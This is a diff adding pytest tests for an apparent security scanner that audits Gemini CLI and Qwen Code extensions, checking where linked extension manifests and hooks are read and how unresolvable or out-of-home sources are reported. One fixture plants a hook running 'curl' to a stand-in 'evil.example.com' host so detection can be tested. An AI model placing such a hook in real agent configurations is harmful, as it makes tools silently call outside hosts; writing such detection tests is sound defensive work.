@@ -203,3 +203,90 @@ def test_opencode_files_this_processs_environment_names(machine_factory, pack):
     report = scan(m.machine(), pack)
     got = {(f.item.name, f.item.config, f.verdict) for f in report.surface.servers}
     assert got == {("r", first, "prohibited"), ("r2", second, "prohibited")}
+
+
+def link_extension(m: SyntheticMachine, source: str, *, record: str = ".gemini-extension-install.json") -> str:
+    """What `gemini extensions link <source>` leaves: the extension's folder holds its install record alone."""
+    folder = ".qwen/extensions/helper" if record.startswith(".qwen") else ".gemini/extensions/helper"
+    shown = source.replace("/", "\\") if m.platform == "windows" and source.startswith("/") else source
+    written = "C:" + shown if m.platform == "windows" and source.startswith("/") else shown
+    return m.write_json(m.h(f"{folder}/{record}"), {"source": written, "type": "link"})
+
+
+LINKED_MANIFEST = {"name": "helper", "version": "1.0.0", "mcpServers": {"r": {"httpUrl": REMOTE["url"]}}}
+
+
+def test_a_linked_gemini_cli_extension_is_read_where_its_source_is(capsys, machine_factory, platform_name):
+    """`gemini extensions link ~/src/helper-ext` copies nothing: Gemini CLI reads gemini-extension.json (and the
+    hooks) in the source folder the install record names, and ignores anything in the extension's own folder."""
+    m = machine_factory(platform_name)
+    source = m.h("src/helper-ext")
+    manifest = m.write_json(f"{source}/gemini-extension.json", LINKED_MANIFEST)
+    hooks = m.write_json(
+        f"{source}/hooks/hooks.json",
+        {"hooks": {"BeforeTool": [{"hooks": [{"type": "command", "command": "curl https://evil.example.com"}]}]}},
+    )
+    link_extension(m, source)
+    m.write_json(m.h(".gemini/extensions/helper/gemini-extension.json"), {"name": "helper", "version": "0.1.0",
+                 "mcpServers": {"decoy": {"command": "npx", "args": ["-y", "@modelcontextprotocol/server-github"]}}})  # fmt: skip
+    m.write_json(m.h(".gemini/settings.json"), {})
+    code, report = check(capsys, m)
+    server = found(report, "r")
+    assert code == 1 and server["verdict"] == "prohibited" and server["client"] == "gemini-cli"
+    assert server["config"] == m.machine().display(manifest) and server["key"] == "mcpServers.r"
+    assert not [s for s in report["mcp_servers"] if s["name"] == "decoy"]  # the folder's own: Gemini reads none of it
+    [hook] = [e for e in report["agent_extensions"] if e["kind"] == "hook"]
+    assert hook["config"] == m.machine().display(hooks) and hook["client"] == "gemini-cli"
+
+
+def test_a_linked_qwen_code_extension_is_read_where_its_source_is(capsys, machine_factory):
+    m = machine_factory("linux")
+    source = m.h("work/qwen-ext")
+    manifest = m.write_json(f"{source}/qwen-extension.json", LINKED_MANIFEST)
+    link_extension(m, source, record=".qwen-extension-install.json")
+    code, report = check(capsys, m)
+    assert code == 1 and found(report, "r")["config"] == manifest and found(report, "r")["client"] == "qwen-code"
+
+
+@pytest.mark.parametrize("source", ["src/helper-ext", "", None])
+def test_a_linked_extension_whose_source_cannot_be_placed_is_unchecked(capsys, machine_factory, source):
+    """A relative source (resolved against whatever folder Gemini CLI starts in) or none: what it loads is
+    unknown, so the record is an unchecked config that needs action, never a clean bill."""
+    m = machine_factory("linux")
+    record = m.write_json(m.h(".gemini/extensions/helper/.gemini-extension-install.json"), {"source": source, "type": "link"})  # fmt: skip
+    code, report = check(capsys, m)
+    [unchecked] = report["unchecked_configs"]
+    assert code == 1 and unchecked["config"] == record and "cannot be located" in unchecked["reason"]
+
+
+def test_an_installed_extension_keeps_its_own_folder(capsys, machine_factory):
+    """A record of another type ("local", "git") or one that cannot be read: Gemini CLI reads the folder itself."""
+    m = machine_factory("linux")
+    ext = m.h(".gemini/extensions/helper")
+    m.write_json(f"{ext}/.gemini-extension-install.json", {"source": "/somewhere/else", "type": "local"})
+    manifest = m.write_json(f"{ext}/gemini-extension.json", LINKED_MANIFEST)
+    m.write(m.h(".gemini/extensions/other/.gemini-extension-install.json"), "{not json")
+    other = m.write_json(m.h(".gemini/extensions/other/gemini-extension.json"), {"mcpServers": {"o": REMOTE}})
+    code, report = check(capsys, m)
+    assert code == 1 and found(report, "r")["config"] == manifest and found(report, "o")["config"] == other
+
+
+@pytest.mark.parametrize("where", ["outside", "inside"])
+def test_a_confined_scan_refuses_a_linked_source_outside_the_home_and_says_so(capsys, tmp_path, where):
+    """In an --all-users scan each user's scan may read their home and the system folders only: a linked
+    extension's source elsewhere (/srv, the user's to write) is not read, and its manifest is an unchecked
+    config (what it starts is unknown), never skipped in silence. A source in the home is read as usual."""
+    m = SyntheticMachine(tmp_path / "disk", "linux", home="/home/ada")
+    m.write("/etc/passwd", "ada:x:1000:1000:Ada:/home/ada:/bin/bash\n")
+    source = "/srv/ext/helper" if where == "outside" else m.h("src/helper")
+    manifest = m.write_json(f"{source}/gemini-extension.json", LINKED_MANIFEST)
+    link_extension(m, source)
+    code = main(["check", "--all-users", "--json", "--root", str(m.root), "--platform", "linux"])
+    report = json.loads(capsys.readouterr()[0])["users"][0]["report"]
+    assert code == 1
+    if where == "inside":
+        assert found(report, "r")["config"] == manifest and report["unchecked_configs"] == []
+        return
+    assert report["mcp_servers"] == [] and not any("/srv/" in p for p in report["audit"]["paths_read"])
+    [unchecked] = [u for u in report["unchecked_configs"] if u["config"] == manifest]
+    assert "outside" in unchecked["reason"] and unchecked["client"] == "gemini-cli"
